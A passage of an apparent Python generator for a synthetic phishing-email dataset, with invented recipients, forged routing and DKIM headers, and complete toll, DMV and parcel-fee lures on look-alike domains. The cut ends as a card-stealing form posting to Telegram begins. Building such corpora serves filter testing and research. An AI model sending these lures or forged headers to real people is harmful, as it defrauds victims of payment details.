             + f"\nARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n bh={bhash(seed + 'odk')};\n b={sigf(seed + 'am', 1)}"
             + "\nARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=none; dmarc=none;\n dkim=none; arc=none"
             + f"\nDKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={sender_domain};\n s=selector1;\n h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck;\n bh={bhash(seed + 'odk')};\n b={sigf(seed + 'od', 1)}"
             + f"\nReceived: from {fqdn} (2603:10b6:806:{hexs(seed + 'r1', 3)}::{hexs(seed + 'r2', 2)})\n by DM4PR{num(seed + 'dm', 2)}MB{num(seed + 'dm2', 4)}.{region}.prod.outlook.com (2603:10b6:5:{hexs(seed + 'r3', 3)}::{hexs(seed + 'r4', 2)})\n with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{num(seed + 'v', 4)}.{int(hexs(seed + 'vv', 2), 16) % 30 + 10}; {fmt(t - sec(1))}"
             + f"\nReceived: from {fqdn}\n ([fe80::{hexs(seed + 'll1', 4)}:{hexs(seed + 'll2', 4)}:{hexs(seed + 'll3', 4)}:{hexs(seed + 'll4', 4)}%7]) by {fqdn}\n ([fe80::{hexs(seed + 'll1', 4)}:{hexs(seed + 'll2', 4)}:{hexs(seed + 'll3', 4)}:{hexs(seed + 'll4', 4)}%7]) with mapi id 15.20.{num(seed + 'v', 4)}.{int(hexs(seed + 'vv', 2), 16) % 30 + 10}; {fmt(t - sec(2))}")
    return src, block, msgid


def yahoo_out(t: datetime, seed: str, domain: str = "yahoo.com") -> tuple[Src, str, str]:
    """A consumer Yahoo/AOL account's outbound headers and Message-ID."""
    host = f"sonic{num(seed + 'so', 3)}-{int(hexs(seed + 'so2', 2), 16) % 50 + 1}.consmr.mail.{['ne1', 'bf2', 'gq1'][int(hexs(seed + 'dc', 2), 16) % 3]}.yahoo.com"
    ip = f"66.163.{int(hexs(seed + 'y1', 2), 16) % 60 + 180}.{int(hexs(seed + 'y2', 2), 16) % 250 + 2}"
    src = Src(ip, host, host, "")
    sel = "s2048" if domain == "yahoo.com" else "a2048"
    msgid = f"<{num(seed + 'm1', 10)}.{num(seed + 'm2', 7)}.{ep(t) - 2}{num(seed + 'm3', 3)}@mail.yahoo.com>"
    block = (dkim(domain, sel, "Date:From:To:Subject:References:From:Subject:Reply-To", seed + "ydk", t, n=344)
             + f"\nX-SONIC-DKIM-SIGN: v=1; a=rsa-sha256; c=relaxed/relaxed; d=yahoo.com; s=s2048; t={ep(t)};\n\tbh={bhash(seed + 'ydk')};\n\tb={sig(seed + 'ysdk')}"
             + f"\nX-YMail-OSG: {b64(seed + 'osg', 72).replace('+', '.').replace('/', '_')}\n {b64(seed + 'osg2', 72).replace('+', '.').replace('/', '_')}\n {b64(seed + 'osg3', 40).replace('+', '.').replace('/', '_')}--"
             + f"\nReceived: from sonic.gate.mail.ne1.yahoo.com by {host} with HTTP; {fmt(t - sec(1))}")
    return src, block, msgid


def exim_hop(server: str, client_ip: str, client_helo: str, mf: str, rcpt: str, t: datetime, seed: str, auth: bool = True) -> str:
    """The cPanel Exim line of a hosted mailbox (a compromised small-business account)."""
    port = int(num(seed + "port", 5)) % 30000 + 30000
    helo = client_helo if any(c.isalpha() for c in client_helo) else f"[{client_helo}]"  # literals are bracketed
    exim_id = f"1{tok(seed + 'ex1', 5)}-0000000{tok(seed + 'ex2', 4)}-{tok(seed + 'ex3', 4)}"
    return (f"Received: from [{client_ip}] (port={port} helo={helo})\n\tby {server} with {'esmtpsa' if auth else 'esmtp'}  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
            f"\t(Exim 4.98.1)\n\t(envelope-from <{mf}>)\n\tid {exim_id}\n\tfor {rcpt};\n\t{fmt(t, 'America/Chicago')}")


def postfix_local(host: str, t: datetime, seed: str, uid_: int = 33) -> str:
    return f"Received: by {host} (Postfix, from userid {uid_})\n\tid {hexs(seed + 'pfl', 10, True)}; {fmt(t, 'UTC', comment='UTC')}"


def html_doc(body: str, title: str = "", head_extra: str = "") -> str:
    return ("<!DOCTYPE html>\n<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">"
            f"<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\"><title>{title}</title>{head_extra}</head>\n"
            f"<body style=\"margin:0;padding:0;background-color:#f4f4f4;\">\n{body}\n</body></html>\n")


def alt(plain: str, html: str, boundary: str, enc: str = "quoted-printable") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", enc), text(html, "html", enc)])


# --------------------------------------------------------------------------
# registry
# --------------------------------------------------------------------------

MESSAGES: list[dict] = []


def add(stem: str, folder: str, desc: str, prov: str, rcpt: str, t: datetime, src: Src, auth: Auth,
        head: str, body, junk: bool = False) -> None:
    arc_i = 2 if "ARC-Seal: i=1" in head else 1  # a sender's ARC set (Microsoft 365, Zoho) makes Gmail's the second
    top, tail = deliver(prov, rcpt, t, src, auth, stem, junk, arc_i)
    headers = top + "\n" + head.strip("\n") + ("\n" + tail if tail else "")
    MESSAGES.append({"stem": f"b{N}-{stem}", "folder": folder, "desc": desc, "raw": message(headers, body)})



# --------------------------------------------------------------------------
# the mailboxes (invented people)
# --------------------------------------------------------------------------

LINDA = ("Linda Marchetti", "linda.marchetti58@gmail.com", "gmail")      # Cherry Hill, NJ
MARCUS = ("Marcus Bell", "marcus.bell.atx@gmail.com", "gmail")           # Austin, TX (HVAC business)
EMILY = ("Emily Sato", "emily.sato.design@gmail.com", "gmail")           # Seattle, WA (job seeker)
KEVIN = ("Kevin Oduya", "kevin.oduya@gmail.com", "gmail")                # Chicago, IL
HAROLD = ("Harold Greer", "harold.greer1949@gmail.com", "gmail")         # Sarasota, FL
JOAN = ("Joan Greer", "joan.greer49@gmail.com", "gmail")                 # Sarasota, FL
DAN = ("Daniel Okafor", "dan.okafor@icloud.com", "icloud")               # Charlotte, NC
TESSA = ("Tessa Huang", "tessa.huang@icloud.com", "icloud")              # San Jose, CA
JAYLEN = ("Jaylen Brooks", "jaylen.brooks@icloud.com", "icloud")         # Atlanta, GA
MARGARET = ("Margaret Lindqvist", "margaret.lindqvist@me.com", "icloud")  # Minneapolis, MN
ROSEMARY = ("Rosemary Tran", "rosemary.tran@outlook.com", "outlook")     # Houston, TX
GARY = ("Gary Whitfield", "gwhitfield1958@hotmail.com", "outlook")       # Phoenix, AZ
NINA = ("Nina Park", "nina.park@outlook.com", "outlook")                 # Oakland, CA
PATRICIA = ("Patricia Kowalski", "pkowalski1961@yahoo.com", "yahoo")     # Tampa, FL
RON = ("Ron Ashby", "ron.ashby@yahoo.com", "yahoo")                      # Norfolk, VA
FRANK = ("Frank Delgado", "fdelgado@comcast.net", "comcast")             # Havertown, PA
CAROL = ("Carol Jennings", "carol.jennings@comcast.net", "comcast")      # Denver, CO
BEVERLY = ("Beverly Haines", "bhaines47@att.net", "att")                 # Macon, GA
WALT = ("Walter Pruitt", "walt.pruitt@sbcglobal.net", "att")             # Fresno, CA


def to(p: tuple) -> str:
    return f"{p[0]} <{p[1]}>"


def btn(href: str, label: str, bg: str = "#0b5394", fg: str = "#ffffff") -> str:
    return (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" bgcolor="{bg}" '
            f'style="border-radius:4px;"><a href="{href}" target="_blank" style="display:inline-block;padding:12px 28px;'
            f'font-family:Arial,Helvetica,sans-serif;font-size:15px;color:{fg};text-decoration:none;font-weight:bold;">{label}</a></td></tr></table>')


# ==========================================================================
# ATTACKS
# ==========================================================================

# ---- 1. E-ZPass unpaid toll from a compromised dental-office mailbox (Roundcube on cPanel) ----
def _a_ezpass():
    who = LINDA
    t = T("2025-03-11 14:22:07")
    snd = "frontdesk@parkviewsmiles.com"
    link = "https://e-zpassny.com-tollsvc.top/pay?ref=EZ48817392"
    src = Src("198.54.116.88", "server317-1.web-hosting.com", "server317-1.web-hosting.com", snd)
    auth = Auth("pass", [("parkviewsmiles.com", "default", "pass")], "none", hfrom="parkviewsmiles.com")
    plain = f"""E-ZPass Customer Service Center

Dear Customer,

Our records show an unpaid toll balance of $6.99 on your vehicle. The
transaction was recorded on 03/07/2025 at a cashless tolling location and no
valid E-ZPass tag or payment method was associated with it.

To avoid a $50.00 late fee and referral of the balance to a collection
agency, please settle it by 03/13/2025:

{link}

Thank you for traveling with E-ZPass.

E-ZPass Customer Service Center
P.O. Box 15186, Albany, NY 12212-5186
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head><body style='font-size: 10pt; font-family: Verdana,Geneva,sans-serif'>
<p><strong>E-ZPass Customer Service Center</strong></p>
<p>Dear Customer,</p>
<p>Our records show an unpaid toll balance of <strong>$6.99</strong> on your vehicle. The transaction was recorded on 03/07/2025 at a cashless tolling location and no valid E-ZPass tag or payment method was associated with it.</p>
<p>To avoid a $50.00 late fee and referral of the balance to a collection agency, please settle it by <strong>03/13/2025</strong>:</p>
<p><a href="{link}" rel="noreferrer">Pay your balance online</a></p>
<p>Thank you for traveling with E-ZPass.</p>
<p>E-ZPass Customer Service Center<br />P.O. Box 15186, Albany, NY 12212-5186</p>
</body></html>
"""
    bnd = "=_" + hexs("ezp-b", 32)
    head = f"""{dkim("parkviewsmiles.com", "default", "Message-ID:Subject:To:From:Date:Content-Type:MIME-Version:Sender:Reply-To:Cc:Content-Transfer-Encoding:Content-ID:Content-Description:Resent-Date:Resent-From:Resent-Sender:Resent-To:Resent-Cc:Resent-Message-ID:In-Reply-To:References:List-Id:List-Help:List-Unsubscribe:List-Subscribe:List-Post:List-Owner:List-Archive", "ezp", t)}
{exim_hop("server317-1.web-hosting.com", "::1", "server317-1.web-hosting.com", snd, who[1], t - sec(2), "ezp")}
MIME-Version: 1.0
Date: {fmt(t - sec(3), "America/New_York")}
From: E-ZPass Toll Services <{snd}>
To: undisclosed-recipients:;
Subject: E-ZPass: balance due on your account
Message-ID: <{hexs("ezp-mid", 32)}@parkviewsmiles.com>
X-Sender: {snd}
User-Agent: Roundcube Webmail/1.6.9
X-AntiAbuse: This header was added to track abuse, please include it with any abuse report
X-AntiAbuse: Primary Hostname - server317-1.web-hosting.com
X-AntiAbuse: Original Domain - gmail.com
X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]
X-AntiAbuse: Sender Address Domain - parkviewsmiles.com
X-Get-Message-Sender-Via: server317-1.web-hosting.com: authenticated_id: {snd}
X-Authenticated-Sender: server317-1.web-hosting.com: {snd}
X-Source:
X-Source-Args:
X-Source-Dir:"""
    add("phish-ezpass-unpaid-toll", "phishing",
        "E-ZPass 'unpaid toll $6.99' notice sent from a compromised dental-office Roundcube mailbox (passes SPF/DKIM for that domain) linking to a subdomain-trick .top payment page (e-zpassny.com-tollsvc.top).",
        "gmail", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- 2. SunPass via an abused SendGrid account with a branded look-alike domain ----
def _a_sunpass():
    who = PATRICIA
    t = T("2025-05-20 16:41:52")
    dom = "sunpasstolls-service.com"
    upn = "u001." + b64("sp-upn", 180).replace("/", "-").replace("+", "_")
    link = f"https://url4417.{dom}/ls/click?upn={upn}"
    mf = f"bounces+43812297-7f1c-pkowalski1961=yahoo.com@em4417.{dom}"
    src = Src("149.72.134.61", "xtrwkhkb.outbound-mail.sendgrid.net", "xtrwkhkb.outbound-mail.sendgrid.net", mf)
    auth = Auth("pass", [(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "pass", "none", dom)
    geo = "geopod-ismtpd-" + str(int(hexs("sp-geo", 2), 16) % 30 + 1)
    mid = b64("sp-mid", 22).replace("/", "_").replace("+", "-")
    plain = f"""SunPass

Unpaid Toll Notice

Dear SunPass Customer,

A toll transaction on your vehicle remains unpaid. Florida's Turnpike
Enterprise recorded the transaction on May 16, 2025 (SR 417, Toll Plaza
Boggy Creek). Amount due: $4.85.

Please pay the balance by May 22, 2025 to avoid an administrative fee and a
hold on your vehicle registration renewal.

Pay now: {link}

Thank you,
SunPass Customer Service

This is an automated message. Please do not reply.
"""
    html = f"""<html>
<head><meta charset="utf-8"><title>SunPass</title></head>
<body style="margin:0;padding:0;background:#eef1f4;">
<table width="100%" cellpadding="0" cellspacing="0" border="0" style="background:#eef1f4;"><tr><td align="center" style="padding:24px 8px;">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;border:1px solid #d9dee3;">
<tr><td style="background:#00703c;padding:18px 24px;font-family:Arial,sans-serif;font-size:26px;font-weight:bold;color:#ffffff;">Sun<span style="color:#ffd200;">Pass</span></td></tr>
<tr><td style="padding:28px 24px 8px 24px;font-family:Arial,sans-serif;font-size:20px;color:#1f2d3d;font-weight:bold;">Unpaid Toll Notice</td></tr>
<tr><td style="padding:8px 24px;font-family:Arial,sans-serif;font-size:14px;line-height:21px;color:#333333;">
<p>Dear SunPass Customer,</p>
<p>A toll transaction on your vehicle remains unpaid. Florida's Turnpike Enterprise recorded the transaction on May 16, 2025.</p>
<table cellpadding="6" cellspacing="0" border="0" style="font-family:Arial,sans-serif;font-size:14px;border:1px solid #e3e7eb;width:100%;">
<tr><td style="background:#f6f8fa;width:45%;">Location</td><td>SR 417 &ndash; Boggy Creek Toll Plaza</td></tr>
<tr><td style="background:#f6f8fa;">Transaction date</td><td>05/16/2025</td></tr>
<tr><td style="background:#f6f8fa;">Amount due</td><td><strong>$4.85</strong></td></tr>
<tr><td style="background:#f6f8fa;">Due by</td><td>05/22/2025</td></tr>
</table>
<p>Please pay the balance by the due date to avoid an administrative fee and a hold on your vehicle registration renewal.</p>
</td></tr>
<tr><td align="center" style="padding:12px 24px 28px 24px;">{btn(link, "Pay Now", "#00703c")}</td></tr>
<tr><td style="padding:16px 24px;background:#f6f8fa;font-family:Arial,sans-serif;font-size:11px;color:#7a8590;">This is an automated message. Please do not reply. &copy; 2025 SunPass. All rights reserved.</td></tr>
</table></td></tr></table>
<img src="https://url4417.{dom}/wf/open?upn=u001.{b64('sp-open', 120).replace('/', '-').replace('+', '_')}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;border-width:0 !important;margin-top:0 !important;margin-bottom:0 !important;margin-right:0 !important;margin-left:0 !important;padding-top:0 !important;padding-bottom:0 !important;padding-right:0 !important;padding-left:0 !important;"/></body>
</html>
"""
    bnd = hexs("sp-bnd", 60)
    hh = "content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to"
    head = f"""{dkim(dom, "s1", hh, "sp1", t)}
{dkim("sendgrid.info", "smtpapi", hh, "sp2", t)}
Received: by recvd-5f7c9bd79f-tx8kq with SMTP id recvd-5f7c9bd79f-tx8kq-1-682CB1D0-2E
\t{t.strftime('%Y-%m-%d %H:%M:%S')}.603812371 +0000 UTC m=+3412487.211298701
Received: from NDM4MTIyOTc (unknown)
\tby {geo} (SG) with HTTP
\tid {mid}
\t{t.strftime('%a, %d %b %Y %H:%M:%S')}.487 +0000 (UTC)
Date: {t.strftime('%a, %d %b %Y %H:%M:%S')} +0000 (UTC)
From: SunPass <notices@{dom}>
Mime-Version: 1.0
Message-ID: <{mid}@{geo}>
Subject: Unpaid toll notice - action required by 05/22
X-Feedback-ID: 43812297:SG
X-SG-EID: u001.{b64("sp-eid", 150)}
X-SG-ID: u001.SdBcvi+Evd/bQef8eZF3BtGP+wYGD1S3l7n4kiAJ9gU{b64("sp-sgid", 60)}
To: {who[1]}
X-Entity-ID: u001.{b64("sp-ent", 22)}=="""
    body = Multi("alternative", bnd, [text(plain), text(html, "html")])
    add("phish-sunpass-sendgrid", "phishing",
        "SunPass unpaid-toll notice sent through an abused SendGrid account on the look-alike domain sunpasstolls-service.com (SPF/DKIM/DMARC pass), link hidden behind SendGrid click tracking.",
        "yahoo", who[1], t, src, auth, head, body)


# ---- 3. FasTrak notice with only a QR code to scan (PHPMailer on a .xin VPS) ----
def _a_fastrak():
    who = NINA
    t = T("2025-07-08 18:03:11")
    dom = "thefastrak-pay.xin"
    qr_url = "https://thefastrak-pay.xin/m/?c=NP8832"
    qr = files.qr_png(qr_url)
    src = Src("45.148.10.97", f"mail.{dom}", f"mail.{dom}", f"billing@{dom}")
    auth = Auth("pass", [(dom, "mail", "pass")], "pass", "none", dom)
    plain = """FasTrak - The Toll Roads / Bay Area Express Lanes

Notice of Toll Evasion Violation

Our records show an unpaid toll on your vehicle:
  Facility: San Francisco-Oakland Bay Bridge
  Date: 07/05/2025
  Amount due: $4.15

Scan the QR code in this message with your phone camera to pay and avoid a
penalty of $25.00. Payment must be received within 48 hours.

FasTrak Customer Service Center
"""
    html = """<!DOCTYPE html><html><head><meta charset="UTF-8"></head>
<body style="font-family:Helvetica,Arial,sans-serif;background:#ffffff;color:#222;">
<div style="max-width:560px;margin:0 auto;border:1px solid #ddd;">
<div style="background:#003a70;color:#fff;padding:16px 20px;font-size:22px;font-weight:bold;">FasTrak<sup style="font-size:10px;">&reg;</sup></div>
<div style="padding:20px;">
<h2 style="font-size:18px;margin:0 0 12px 0;color:#003a70;">Notice of Toll Evasion Violation</h2>
<p style="font-size:14px;line-height:20px;">Our records show an unpaid toll on your vehicle:</p>
<table style="font-size:14px;border-collapse:collapse;">
<tr><td style="padding:4px 16px 4px 0;color:#666;">Facility</td><td>San Francisco-Oakland Bay Bridge</td></tr>
<tr><td style="padding:4px 16px 4px 0;color:#666;">Date</td><td>07/05/2025</td></tr>
<tr><td style="padding:4px 16px 4px 0;color:#666;">Amount due</td><td><b>$4.15</b></td></tr>
</table>
<p style="font-size:14px;line-height:20px;">Scan the code below with your phone camera to pay and avoid a penalty of $25.00. Payment must be received within 48 hours.</p>
<p style="text-align:center;"><img src="cid:qr_np8832@fastrak" width="180" height="180" alt="Scan to pay"></p>
<p style="font-size:12px;color:#888;">FasTrak Customer Service Center</p>
</div></div></body></html>
"""
    rel = Multi("related", "b1=_" + tok("ft-b1", 40), [
        Multi("alternative", "b2=_" + tok("ft-b2", 40), [text(plain), text(html, "html")]),
        Leaf("image/png", qr, "base64", '; name="qr.png"', 'inline; filename="qr.png"', ["Content-ID: <qr_np8832@fastrak>"]),
    ])
    head = f"""{dkim(dom, "mail", "Date:To:From:Subject:Message-ID:MIME-Version:Content-Type", "ft", t)}
Received: from localhost (localhost [127.0.0.1])
\tby mail.{dom} (Postfix) with ESMTP id 4bcH{tok("ft-pf", 8)}
\tfor <{who[1]}>; {fmt(t - sec(1), comment="UTC")}
Date: {fmt(t - sec(2))}
To: {who[1]}
From: FasTrak <billing@{dom}>
Subject: Notice of Toll Evasion Violation - Balance $4.15
Message-ID: <{tok("ft-mid", 43)}@{dom}>
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add("phish-fastrak-qr", "phishing",
        "FasTrak toll-evasion notice from the throwaway domain thefastrak-pay.xin whose only call to action is an inline QR code pointing at the payment page (quishing, no clickable link).",
        "outlook", who[1], t, src, auth, head, rel)


# ---- 4. NC DMV "final notice" plain text from a mass-mailer VPS ----
def _a_ncdmv():
    who = DAN
    t = T("2025-06-04 13:17:45")
    dom = "ncdot-notice.info"
    link = "https://ncdmv.gov-pmvq.vip/pay"
    src = Src("154.12.88.203", None, f"mail.{dom}", f"no-reply@{dom}", "TLS1_2")
    auth = Auth("pass", [], "none", hfrom=dom)
    body = f"""North Carolina DMV Final Notice: Enforcement Penalties Begin June 6.

Our records indicate that as of June 4, 2025, you have an outstanding traffic
ticket. Per North Carolina Administrative Code 19A NCAC 03D.0208, if you do
not pay by June 5, 2025, we will take the following actions:

1. Report to the DMV violation database
2. Suspend your vehicle registration starting June 6
3. Suspend driving privileges for 30 days
4. Transfer to a toll booth and charge a 35% service fee
5. You may be prosecuted and your credit score will be affected

Pay now: {link}

Please pay immediately before enforcement begins to avoid license suspension
and further legal disputes.

North Carolina Department of Motor Vehicles
"""
    head = f"""Received: by mail.{dom} (Postfix, from userid 0)
\tid 3F2A{hexs("nc-pf", 6, True)}; {fmt(t - sec(1), comment="UTC")}
To: {who[1]}
Subject: Final Notice: Enforcement Penalties Begin June 6
From: "NCDMV" <no-reply@{dom}>
Date: {fmt(t - sec(1))}
Message-ID: <{t.strftime('%Y%m%d%H%M%S')}.3F2A{hexs("nc-pf", 6, True)}@{dom}>
MIME-Version: 1.0"""
    add("phish-ncdmv-final-notice", "phishing",
        "Plain-text North Carolina DMV 'final notice' (the 2025 smishing script moved to email: fake admin code, registration suspension threats) from a no-DKIM mass-mailer domain, link to a .vip look-alike.",
        "icloud", who[1], t, src, auth, head, text(body, encoding="7bit", charset="us-ascii"))


# ---- 5. USPS address-incomplete redelivery fee from a throwaway .shop domain ----
def _a_usps():
    who = FRANK
    t = T("2025-09-16 12:48:30")
    dom = "uspsredeliver-care.shop"
    link = "https://usps.redeliverycare-aj.top/us/?id=US9514961195221"
    src = Src("85.208.84.140", f"mta1.{dom}", f"mta1.{dom}", f"tracking@{dom}")
    auth = Auth("pass", [(dom, "default", "pass")], "none", hfrom=dom)
    plain = f"""USPS Tracking

Your package US9514961195221 arrived at our facility on 09/15/2025 but could
not be delivered because the address information was incomplete.

Please confirm your address within 12 hours so the package can be
redelivered. A redelivery fee of $0.30 applies.

Update address: {link}

If the address is not confirmed, the package will be returned to the sender.

The USPS Team
"""
    html = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;background:#f2f2f2;font-family:Helvetica,Arial,sans-serif;">
<table align="center" width="600" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="background:#333366;padding:14px 24px;"><span style="color:#fff;font-size:24px;font-weight:bold;letter-spacing:1px;">USPS</span><span style="color:#fff;font-size:12px;"> &nbsp;UNITED STATES POSTAL SERVICE</span></td></tr>
<tr><td style="padding:24px;font-size:15px;line-height:22px;color:#333;">
<p style="font-size:20px;color:#333366;margin-top:0;">Delivery attempt unsuccessful</p>
<p>Your package <b>US9514961195221</b> arrived at our facility on 09/15/2025 but could not be delivered because the address information was incomplete.</p>
<p>Please confirm your address within <b>12 hours</b> so the package can be redelivered. A redelivery fee of <b>$0.30</b> applies.</p>
<p style="text-align:center;padding:8px 0;"><a href="{link}" style="background:#e71921;color:#fff;padding:12px 32px;text-decoration:none;border-radius:3px;font-weight:bold;">Update Address</a></p>
<p style="font-size:13px;color:#777;">If the address is not confirmed, the package will be returned to the sender.</p>
</td></tr>
<tr><td style="background:#f7f7f7;padding:14px 24px;font-size:11px;color:#999;">&copy; 2025 USPS. All Rights Reserved.</td></tr>
</table></body></html>
"""
    bnd = "----=_Part_" + num("us-b", 6) + "_" + num("us-b2", 9) + "." + str(ep(t)) + "123"
    head = f"""{dkim(dom, "default", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", "usps", t)}
Received: from [127.0.0.1] (localhost [127.0.0.1])
\tby mta1.{dom} (Postfix) with ESMTPSA id {hexs("us-pf", 11, True)}
\tfor <{who[1]}>; {fmt(t - sec(1), "UTC", comment="UTC")}
From: "USPS" <tracking@{dom}>
To: <{who[1]}>
Subject: Your package is being held - address incomplete
Date: {fmt(t - sec(2))}
Message-ID: <{uid("us-mid")}@{dom}>
MIME-Version: 1.0"""
    add("phish-usps-address-incomplete", "phishing",
        "USPS 'address incomplete, $0.30 redelivery fee' lure from the throwaway domain uspsredeliver-care.shop (passes its own SPF/DKIM) linking to a .top card-harvesting page.",
        "comcast", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- 6. UPS import duty from a compromised Microsoft 365 nonprofit mailbox, Cloudflare Pages ----
def _a_ups():
    who = BEVERLY
    t = T("2025-11-12 15:20:09")
    snd = "admin@lakesidefoodpantry.org"
    link = "https://ups-duty-payment.pages.dev/?trk=1Z9X48W20391847732"
    src = Src("40.107.237.98", "mail-bn8nam12on2098.outbound.protection.outlook.com", "NAM12-BN8-obe.outbound.protection.outlook.com", snd)
    auth = Auth("pass", [("lakesidefoodpantry.org", "selector1", "pass")], "pass", "none", "lakesidefoodpantry.org")
    pod = "BN0PR08MB" + num("ups-pod", 4)
    mid = f"<{pod}{hexs('ups-mid', 24, True)}@{pod}.namprd08.prod.outlook.com>"
    plain = f"""UPS

Your shipment 1Z9X48W20391847732 is being held at customs.

An import duty of $2.19 was assessed on this shipment and must be paid before
it can be released for delivery.

Pay the duty and schedule delivery: {link}

Shipments not released within 3 business days are returned to the origin.

(c) 2025 United Parcel Service of America, Inc.
"""
    html = f"""<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style type="text/css" style="display:none;"> P {{margin-top:0;margin-bottom:0;}} </style>
</head>
<body dir="ltr">
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
<table width="580" cellpadding="0" cellspacing="0" style="border:1px solid #ddd;">
<tr><td style="background:#351c15;padding:14px 20px;color:#ffb500;font-size:26px;font-weight:bold;font-family:Arial;">UPS</td></tr>
<tr><td style="padding:20px;font-family:Arial;font-size:14px;line-height:20px;color:#222;">
<p><b>Your shipment is being held at customs</b></p>
<p>Tracking number: 1Z9X48W20391847732</p>
<p>An import duty of <b>$2.19</b> was assessed on this shipment and must be paid before it can be released for delivery.</p>
<p><a href="{link}" style="background:#ffc400;color:#000;padding:10px 24px;text-decoration:none;font-weight:bold;border-radius:20px;">Pay and Schedule Delivery</a></p>
<p style="font-size:12px;color:#666;">Shipments not released within 3 business days are returned to the origin.</p>
</td></tr>
<tr><td style="padding:10px 20px;font-size:11px;color:#888;font-family:Arial;">&copy; 2025 United Parcel Service of America, Inc.</td></tr>
</table>
</div>
</body>
</html>
"""
    bnd = f"_000_{pod}{hexs('ups-mid', 24, True)}{pod.lower()}namp_"
    head = f"""ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;
 b={sigf("ups-as", 1)}
ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;
 s=arcselector10001;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;
 bh={bhash("ups")};
 b={sigf("ups-am", 1)}
ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass
 smtp.mailfrom=lakesidefoodpantry.org; dmarc=pass action=none
 header.from=lakesidefoodpantry.org; dkim=pass
 header.d=lakesidefoodpantry.org; arc=none
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
 d=lakesidefoodpantry.org; s=selector1;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck;
 bh={bhash("ups")};
 b={sigf("ups-dk", 1)}
Received: from {pod}.namprd08.prod.outlook.com (2603:10b6:408:{hexs("ups-r1", 3)}::{hexs("ups-r2", 2)})
 by SA1PR08MB{num("ups-sa", 4)}.namprd08.prod.outlook.com (2603:10b6:806:{hexs("ups-r3", 3)}::{hexs("ups-r4", 2)}) with
 Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.9298.17; {fmt(t - sec(1))}
Received: from {pod}.namprd08.prod.outlook.com
 ([fe80::{hexs("ups-l1", 4)}:{hexs("ups-l2", 4)}:{hexs("ups-l3", 4)}:{hexs("ups-l4", 4)}]) by {pod}.namprd08.prod.outlook.com
 ([fe80::{hexs("ups-l1", 4)}:{hexs("ups-l2", 4)}:{hexs("ups-l3", 4)}:{hexs("ups-l4", 4)}%4]) with mapi id 15.20.9298.017; {fmt(t - sec(2))}
From: UPS Customs Billing <{snd}>
To: Lakeside Food Pantry <{snd}>
Subject: Import duty due for shipment 1Z9X48W20391847732
Thread-Topic: Import duty due for shipment 1Z9X48W20391847732
Thread-Index: AQHcU{b64("ups-ti", 26)}==
Date: {fmt(t - sec(2))}
Message-ID: {mid}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
msip_labels:
authentication-results: dkim=none (message not signed)
 header.d=none;dmarc=none action=none header.from=lakesidefoodpantry.org;
x-ms-publictraffictype: Email
x-ms-traffictypediagnostic: {pod}:EE_|SA1PR08MB{num("ups-sa", 4)}:EE_
x-ms-office365-filtering-correlation-id: {uid("ups-corr")}
x-ms-exchange-senderadcheck: 1
x-ms-exchange-antispam-relay: 0
MIME-Version: 1.0"""
    add("phish-ups-customs-pagesdev", "phishing",
        "UPS 'import duty $2.19' notice sent (recipient in Bcc) from a compromised Microsoft 365 food-pantry mailbox that passes SPF/DKIM/DMARC, payment page on Cloudflare Pages (pages.dev).",
        "att", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- 7. FedEx: short mail with an HTML "reschedule form" that posts card data to Telegram ----
def _a_fedex():
    who = MARCUS
    t = T("2025-12-02 17:05:44")
    dom = "fdx-deliverymgr.com"
    src = Src("193.233.48.21", f"mx.{dom}", f"mx.{dom}", f"notify@{dom}")
    auth = Auth("pass", [(dom, "dkim", "pass")], "pass", "quarantine", dom)
    bot = f"{num('fx-bot', 10)}:AA{b64('fx-bt', 33).replace('/', '_').replace('+', '-')}"
    js = (f"document.getElementById('f').addEventListener('submit',function(e){{e.preventDefault();"
